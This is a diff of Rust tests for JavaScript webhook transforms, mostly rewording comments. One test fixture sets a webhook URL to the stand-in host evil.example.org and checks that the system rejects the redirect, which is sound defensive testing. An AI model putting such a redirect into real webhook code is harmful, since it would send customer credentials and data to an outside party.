@@ -1,4 +1,4 @@
-//! JavaScript transforms in the whole function.
+//! JavaScript transforms, end to end.
 
 use crate::world::{Process, World};
 use serde_json::json;
@@ -36,7 +36,7 @@ impl Drop for Folder {
     }
 }
 
-/// Ends a handler with an event of this name.
+/// The end of a handler that sends an event of this name.
 fn event(name: &str) -> String {
     format!(
         "webhook.url = 'https://track-eu.customer.io/api/v2/entity';
@@ -145,7 +145,7 @@ async fn limits_are_kept_and_the_next_webhook_is_served() {
 
 #[tokio::test]
 async fn credentials_go_to_customer_io_only() {
-    // Not below example.com, which `World::invoke` takes for a customer's address.
+    // Not under example.com, which `World::invoke` treats as a customer's address.
     let body = "webhook.url = 'https://evil.example.org/api/v2/entity'; webhook.payload = {}; return webhook;";
     let folder = Folder::of(&[("one.js", body)]);
     let world = folder.world().await;
@@ -154,7 +154,7 @@ async fn credentials_go_to_customer_io_only() {
     assert!(response.message().contains("one.js:1: webhook.url leads to evil.example.org"));
 }
 
-/// At the most talkative level; `World::invoke` looks for what must not be in the log.
+/// At the most verbose level; `World::invoke` checks that no personal data is in the log.
 #[tokio::test]
 async fn the_console_repeats_nothing_personal() {
     let body = "console.log('got', webhook.payload.data.customer, webhook.payload.data.customer.email); return webhook";
